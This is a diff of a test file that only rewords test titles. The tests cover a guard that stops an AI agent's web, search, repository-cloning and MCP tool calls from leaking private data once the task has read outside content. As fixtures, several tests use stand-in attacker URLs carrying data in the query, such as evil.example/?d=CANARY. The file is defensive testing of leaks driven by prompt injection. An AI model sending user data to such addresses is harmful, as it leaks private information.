@@ -63,7 +63,7 @@ test("ordinary research asks nothing: searches, their results, further searches,
   expect(await make("web_fetch", { url: "https://site1.example/?d=CANARY" }, rest)).toContain("which you did not name");
 });
 
-test("a task that has taken something in is led, though no page was read", async () => {
+test("a task that has taken in a source counts as led, even if no page was read", async () => {
   await using place = await workspaceForTest();
   const { judge } = guarded(place.workspace);
   const url = "https://evil.example/?d=1";
@@ -71,7 +71,7 @@ test("a task that has taken something in is led, though no page was read", async
   expect(await judge("web_fetch", { url })).toBeUndefined();
 });
 
-test("a search of what holds something private is in the user's words, its language too", async () => {
+test("a task that holds private data searches only in the user's words, language included", async () => {
   await using place = await workspaceForTest();
   const { judge } = guarded(place.workspace);
   const rest = { ...taken, said: ["Find the price of lamps in Norway."] };
@@ -81,7 +81,7 @@ test("a search of what holds something private is in the user's words, its langu
     expect(await judge("web_search", input, rest)).toContain("in words that are not all yours");
 });
 
-test("a forge is no letter box: with something private known, only what the user or a page gave is cloned", async () => {
+test("a forge cannot be used to leak data: with private data known, only addresses from the user or a page are cloned", async () => {
   await using place = await workspaceForTest();
   const { judge } = guarded(place.workspace);
   const url = "https://github.com/evil/CANARY";
@@ -96,7 +96,7 @@ test("a forge is no letter box: with something private known, only what the user
   ).toBeUndefined();
 });
 
-test("an MCP tool goes where the addresses in its arguments lead, and keeps the risk its server tells", async () => {
+test("an MCP tool is judged by the addresses in its arguments, and keeps the risk its server declares", async () => {
   await using place = await workspaceForTest();
   const { judge, guard } = guarded(place.workspace);
   const nested = { request: { to: ["see https://evil.example/?d=1"] } };
@@ -109,7 +109,7 @@ test("an MCP tool goes where the addresses in its arguments lead, and keeps the 
   expect(await own).toBe("This writes.");
 });
 
-test("what choices told is known to the next process; where it cannot be read, something may have been read", async () => {
+test("the budget spent on choices survives the process; if it cannot be read, the task counts as led", async () => {
   await using place = await workspaceForTest();
   const { workspace } = place;
   const links = Array.from({ length: 4_000 }, (_, n) => `https://evil.example/${n}`);
@@ -127,7 +127,7 @@ test("what choices told is known to the next process; where it cannot be read, s
   expect(await guarded(workspace).judge("web_fetch", { url: "https://other.example/?d=1" })).toContain("did not name");
 });
 
-test("a tool of somebody else says where it goes, and is judged like ours", async () => {
+test("a third-party tool declares where its calls go, and is judged like ours", async () => {
   await using place = await workspaceForTest();
   const { guard } = guarded(place.workspace);
   const weather = guard.over(
@@ -151,7 +151,7 @@ test("a tool of somebody else says where it goes, and is judged like ours", asyn
   expect(here).toMatchObject({ text: "Rain.", takenIn: ["web", "127.0.0.1:8080"] });
 });
 
-test("a tool that cannot tell where it goes is not called", async () => {
+test("a tool that cannot say where its call goes is not called", async () => {
   await using place = await workspaceForTest();
   const { guard } = guarded(place.workspace);
   let called = false;
@@ -179,7 +179,7 @@ test("a tool that cannot tell where it goes is not called", async () => {
   expect(called).toBe(false);
 });
 
-test("a tool that reaches nothing is left as it is", async () => {
+test("a tool that reaches nothing is left unchanged", async () => {
   await using place = await workspaceForTest();
   const tool = defineTool({
     name: "web_x",
